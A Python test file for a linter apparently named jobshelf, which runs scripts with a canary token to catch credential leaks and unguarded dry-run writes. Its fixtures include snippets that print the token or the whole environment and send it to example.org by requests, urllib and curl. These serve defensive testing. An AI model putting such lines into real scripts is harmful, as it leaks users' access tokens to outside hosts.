"""A run with a made-up token: wherever it comes out, UVS402 says where; what else the run does is seen in its record."""

from __future__ import annotations

import base64
import json
import textwrap

import pytest

from jobshelf import interface
from jobshelf.canary import Canary, new_canary
from jobshelf.interface import Watched, probe, watch
from jobshelf.script import parse_script
from jobshelf.testing import vet_text

PRINTED, FILE, ADDRESS = "printed or logged", "written to a file", "part of an address"
WORD = "a word of a command, which every user of the machine can read"
HOST, PUBLISHED = "sent to another host than the Hub", "published on the Hub"
# What the text alone does not show: each script hands the token through something that value flow does not follow.
FRONT = """\
import os
from huggingface_hub import HfApi, get_token
held = vars(__import__("types").SimpleNamespace(token=get_token()))
secret = max(held.values())
"""
LEAKING = {
    "print": ("print(secret)", PRINTED),
    "print of a slice of eight": ("print(secret[12:20])", PRINTED),
    "base64": ("import base64\nprint(base64.b64encode(f'user:{secret}'.encode()))", PRINTED),
    "base64 of a slice": ("import base64\nprint(base64.urlsafe_b64encode(secret[5:20].encode()).decode())", PRINTED),
    "hexadecimal": ("print(secret.encode().hex())", PRINTED),
    "hexadecimal in capitals": ("print(secret.encode().hex().upper())", PRINTED),
    "logging": ("import logging\nlogging.warning('using %s', secret)", PRINTED),
    "logging by a library": ("from loguru import logger\nlogger.info('using {}', secret)", PRINTED),
    "stderr": ("import sys\nsys.stderr.write(f'using {secret}')", PRINTED),
    "representation of a dict": ("print({'headers': {'Authorization': f'Bearer {secret}'}})", PRINTED),
    "JSON": ("import json\nprint(json.dumps(dict(vars(os)['environ'])))", PRINTED),
    "all of the environment": ("print(*[f'{name}={value}' for name, value in vars(os)['environ'].items()])", PRINTED),
    "message of an error": ("raise ValueError(f'{secret} was refused')", "part of a message"),
    "message of an exit": ("raise SystemExit(f'{secret} was refused')", "part of a message"),
    "file": ("from pathlib import Path\nPath('settings.ini').write_text(f'token={secret}')", FILE),
    "file that is removed": (
        "from pathlib import Path\nPath('a.txt').write_text(secret); Path('a.txt').unlink()",
        FILE,
    ),
    "file in a folder of a library": ("import fsspec\nfsspec.filesystem('s3').pipe_file('a/b', secret.encode())", FILE),
    "name of a file": ("from pathlib import Path\nPath(secret).touch()", "part of the name of a file"),
    "query": ("import requests\nrequests.get('https://huggingface.co/api/x', params={'token': secret})", ADDRESS),
    "address": ("import httpx\nhttpx.get(f'https://user:{secret}@huggingface.co/api/x', timeout=5)", ADDRESS),
    "address for urllib": (
        "import contextlib, urllib.request\nwith contextlib.suppress(OSError): urllib.request.urlopen('https://example.org/?t=' + secret, timeout=5)",
        ADDRESS,
    ),
    "header to another host": (
        "import requests\nrequests.post('https://example.org/', headers={'Authorization': f'Bearer {secret}'}, timeout=5)",
        HOST,
    ),
    "header to another host by urllib": (
        "import contextlib, urllib.request as r\n"
        "with contextlib.suppress(OSError): r.urlopen(r.Request('https://example.org/', headers={'X-Key': secret}))",
        HOST,
    ),
    "client of another host": (
        "from openai import OpenAI\nOpenAI(base_url='https://example.org/v1', api_key=secret)",
        HOST,
    ),
    "tracker": ("import wandb\nwandb.init(config={'token': secret})", HOST),
    "body": (
        "import requests\nrequests.post(os.environ.get('HOOK'), json={'t': secret}, timeout=5)",
        "part of the body of a request",
    ),
    "argument of a process": (
        "import contextlib, subprocess\nwith contextlib.suppress(OSError): subprocess.run(['curl', '-H', f'A: {secret}'])",
        WORD,
    ),
    "shell": ("os.system('git clone https://user:' + secret + '@huggingface.co/user/name') if secret else None", WORD),
    "environment of a process under another name": (
        "import contextlib, subprocess\nwith contextlib.suppress(OSError): subprocess.run(['x'], env={**os.environ, 'KEY': secret})",
        "put into the environment of a command",
    ),
    "card": (
        "HfApi().upload_file(path_or_fileobj=f'# {secret}'.encode(), path_in_repo='README.md', repo_id='user/name')",
        PUBLISHED,
    ),
    "commit": (
        "from huggingface_hub import CommitOperationAdd\nCommitOperationAdd('README.md', f'# {secret}'.encode())",
        PUBLISHED,
    ),
    "variable of a Job": (
        "HfApi().run_job(image='python', command=['x'], env={'KEY': secret})",
        "a plain variable of a Job: pass it as secrets=",
    ),
    "rows": ("from datasets import Dataset\nDataset.from_list([{'run by': secret}])", "put into rows of data"),
}
GOOD = {
    "Authorization to the Hub": "import requests\nrequests.get('https://huggingface.co/api/x', headers={'Authorization': f'Bearer {secret}'}, timeout=5)",
    "Authorization by urllib": (
        "import contextlib, urllib.request as r\n"
        "ask = r.Request('https://huggingface.co/api/x', headers={'Authorization': 'Bearer ' + secret})\n"
        "with contextlib.suppress(OSError): r.urlopen(ask, timeout=5)"
    ),
    "token of the Hub's client": "HfApi(token=secret).create_repo('user/name', token=secret)",
    "token of an upload": "HfApi().upload_file(path_or_fileobj=b'x', path_in_repo='a', repo_id='user/name', token=secret)",
    "token of a library": "from datasets import load_dataset\nload_dataset('user/name', split='train', token=secret)",
    "log-in": "from huggingface_hub import login\nlogin(secret)",
    "storage options": "import polars as pl\npl.scan_parquet('hf://datasets/user/name/a.parquet', storage_options={'token': secret})",
    "secret in DuckDB": "import duckdb\nduckdb.sql(f\"CREATE SECRET hf (TYPE huggingface, TOKEN '{secret}')\")",
    "client of the Hub's router": "from openai import OpenAI\nOpenAI(base_url='https://router.huggingface.co/v1', api_key=secret)",
    "secret of a Job": "HfApi().run_job(image='python', command=['x'], secrets={'HF_TOKEN': secret})",
    "name of the user": "print(HfApi().whoami()['name'])",
    "length": "print(f'a token of {len(secret)} characters')",
    "whether there is one": "print(bool(secret), secret is not None)",
    "four characters": "print(f'{secret[:3]}...{secret[-4:]}')",
    "digest": "import hashlib\nprint(hashlib.sha256(secret.encode()).hexdigest())",
    "names of the environment": "print(*[name for name in vars(os)['environ']])",
    "environment of a process": (
        "import contextlib, subprocess\nwith contextlib.suppress(OSError): subprocess.run(['x'], env={**os.environ, 'HF_TOKEN': secret})"
    ),
    "the Hub's client called through a retry": (
        "from tenacity import Retrying, stop_after_attempt\nRetrying(stop=stop_after_attempt(3))(HfApi().whoami, token=secret)"
    ),
}


def findings(source: str, code: str = "UVS402") -> list[tuple[int, str]]:
    report = vet_text(source, select=[code])
    assert report.inconclusive == ()
    return [(finding.line, finding.message) for finding in report.findings]


def watched(source: str) -> Watched:
    script = parse_script(textwrap.dedent(source).encode(), "script.py")
    return watch(script, probe(script))


@pytest.mark.parametrize("kind", LEAKING)
def test_a_token_that_comes_out_is_reported_where_it_does(kind: str) -> None:
    source, where = LEAKING[kind]
    line = len((FRONT + source).splitlines())
    assert findings(FRONT + source) == [(line, f"a token (or a part of one) is {where}")]


@pytest.mark.parametrize("kind", LEAKING)
def test_without_the_run_the_text_alone_does_not_show_it(kind: str) -> None:
    report = vet_text(FRONT + LEAKING[kind][0], select=["UVS402"], stub=False)
    assert report.findings == ()


@pytest.mark.parametrize("kind", GOOD)
def test_a_token_in_its_place_is_no_leak(kind: str) -> None:
    assert findings(FRONT + GOOD[kind]) == []


def test_what_is_written_past_python_is_reported_without_its_line() -> None:
    source = FRONT + "os.write(1, secret.encode())\n"
    assert findings(source) == [(1, f"a token (or a part of one) is {PRINTED}")]


def test_a_leak_that_the_text_shows_is_one_finding() -> None:
    source = """
    from huggingface_hub import get_token


    def check(token):
        raise ValueError(f"{token} was refused")


    try:
        check(get_token())
    except ValueError as error:
        print(f"error: {error}")
    """
    assert findings(textwrap.dedent(source)) == [(6, "a token (or a part of one) is part of a message")]


def test_a_leak_of_a_dry_run_counts_and_one_of_both_runs_is_one_finding() -> None:
    source = """
    import argparse
    from huggingface_hub import HfApi, get_token

    parser = argparse.ArgumentParser()
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    held = vars(argparse.Namespace(token=get_token()))
    print(*held.values())
    if args.dry_run:
        print(repr(held))
    else:
        HfApi().create_repo("user/name")
    """
    expected = [(9, f"a token (or a part of one) is {PRINTED}"), (11, f"a token (or a part of one) is {PRINTED}")]
    assert findings(textwrap.dedent(source)) == expected


def test_no_part_of_the_token_is_in_the_report_and_each_run_has_its_own() -> None:
    source = FRONT + "print(secret)\n"
    assert vet_text(source) == vet_text(source)
    first, second = watched(source), watched(source)
    assert first.real.stdout != second.real.stdout
    assert first.real.stdout.startswith("hf_")
    assert first.dry is None


def test_the_probe_for_a_missing_token_has_none() -> None:
    script = parse_script(
        b"import os\nfrom huggingface_hub import get_token\nprint(get_token(), 'HF_TOKEN' in os.environ)\n", "script.py"
    )
    found = probe(script)
    assert found.without_token.stdout == "None False\n"
    assert watch(script, found).real.stdout.endswith(" True\n")


def test_a_script_that_has_no_use_for_a_token_is_not_run_again(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(interface, "new_canary", None)  # a run with one would fail
    assert findings("import polars as pl\nprint(pl.read_csv('a.csv').head())\n") == []
    with pytest.raises(TypeError):
        findings(FRONT)


def test_a_script_that_had_to_be_stopped_is_not_run_again() -> None:
    script = parse_script(b"import os\nos.environ\nwhile True: pass\n", "script.py")
    assert watch(script, probe(script)) is None


def test_a_record_that_a_script_writes_itself_names_no_leak_that_is_none() -> None:
    source = """
    import huggingface_hub
    import torch

    trace = type(torch.x).trace
    trace.leak("output", "hf_" + "x" * 34, 3)
    trace.leak("nonsense", huggingface_hub.get_token(), 3)
    """
    found = watched(source).real
    assert found.leaks == ()
    assert found.breach is None


def test_a_line_that_the_script_does_not_have_is_not_reported() -> None:
    source = """
    import huggingface_hub
    import torch

    type(torch.x).trace.leak("output", huggingface_hub.get_token(), 10**9)
    """
    assert findings(textwrap.dedent(source)) == [(1, f"a token (or a part of one) is {PRINTED}")]


@pytest.mark.parametrize("before", ["", "a", "ab", "user:", "some longer text "])
def test_eight_characters_in_a_row_are_found_in_every_form(before: str) -> None:
    canary = new_canary()
    for start in range(len(canary.token) - 7):
        part = f"{before}{canary.token[start : start + 8]}{before[::-1]}".encode()
        assert canary.shows(part.decode())
        assert canary.shows(part.hex())
        assert canary.shows(json.dumps({"a": part.decode()}))
    whole = base64.b64encode((before + canary.token + before).encode()).decode()
    assert canary.shows(whole)
    for start in range(len(canary.token) - 9):
        assert canary.shows(base64.b64encode((before + canary.token[start : start + 10]).encode()).decode())


def test_other_texts_show_nothing() -> None:
    canary = Canary("hf_abcdefghijklmnopqrstuvwxyz01234567")
    for text in ("", "hf_", "hf_abcd", "abcdefg", "a token of 37 characters", canary.token[::-1], canary.token[::2]):
        assert not canary.shows(text)
    assert not canary.shows(new_canary().token)


def test_what_calls_through_gets_as_far_as_the_writes() -> None:
    source = """
    import fsspec
    from dataclasses import dataclass
    from datasets import load_dataset
    from huggingface_hub import HfApi
    from tenacity import Retrying, retry, stop_after_attempt
    from transformers import HfArgumentParser

    @dataclass
    class Settings:
        source: str
        column: str = "text"

    @retry(stop=stop_after_attempt(3))
    def push(rows):
        rows.push_to_hub("user/name")

    def shout(row):
        HfApi().file_exists("user/name", row["text"])
        return {"text": row["text"].upper()}

    settings, = HfArgumentParser(Settings).parse_args_into_dataclasses()
    rows = load_dataset(settings.source, split="train")
    push(rows.map(shout))
    Retrying(stop=stop_after_attempt(3))(HfApi().create_repo, "user/name")
    store, root = fsspec.url_to_fs("hf://datasets/user/name")
    with store.open(f"{root}/a.txt", "w") as file:
        file.write(", ".join(row["text"] for row in rows))
    print(rows.column_names[0], len(rows), settings.column)
    """
    found = watched(source).real
    assert (found.exit, found.stderr) == (0, "")
    assert found.stdout == "text 3 text\n"
    names = [event.name.rpartition(".")[2] for event in found.events if event.kind == "call"]
    for name in ("file_exists", "push_to_hub", "create_repo", "write"):
        assert name in names


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("if not args.dry_run:\n    HfApi().create_repo(args.output)", []),
        (
            "HfApi().create_repo(args.output)",
            [(8, "with --dry-run the script writes: huggingface_hub.HfApi.create_repo")],
        ),
        (
            "from fsspec import url_to_fs\nfs, root = url_to_fs('hf://datasets/user/name')\nfs.pipe_file(root, b'')",
            [(10, "with --dry-run the script writes: fsspec.hf.pipe_file")],
        ),
        (
            "from pathlib import Path\nPath(args.output).mkdir(parents=True)",
            [(9, "with --dry-run the script writes: a file in user/name")],
        ),
        ("import tempfile\nwith tempfile.TemporaryFile() as file:\n    file.write(b'x')", []),
    ],
)
def test_a_write_of_a_dry_run_is_seen(text: str, expected: list[tuple[int, str]]) -> None:
    front = """\
import argparse
from huggingface_hub import HfApi

parser = argparse.ArgumentParser()
parser.add_argument("output")
parser.add_argument("--dry-run", action="store_true")
args = parser.parse_args()
"""
    assert findings(front + text, "UVS406") == expected


PERSISTS = """\
# /// script
# requires-python = ">=3.11"
# dependencies = ["huggingface-hub>=2.4,<3"]
# [tool.jobshelf]
# persists = "hub-dataset"
# rehearse = {arguments}
# ///
import sys
from huggingface_hub import HfApi


def main() -> int:
    if "push" in sys.argv:
        HfApi().upload_file(path_or_fileobj=b"x", path_in_repo="a", repo_id="user/name")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
"""


def test_a_run_that_claims_to_persist_and_does_not_is_seen() -> None:
    assert findings(PERSISTS.format(arguments='["push"]'), "UVS403") == []
    expected = [(5, 'persists = "hub-dataset", but a run that ends with 0 persists nothing')]
    assert findings(PERSISTS.format(arguments="[]"), "UVS403") == expected
    assert findings(PERSISTS.format(arguments='["--dry-run"]'), "UVS403") == []
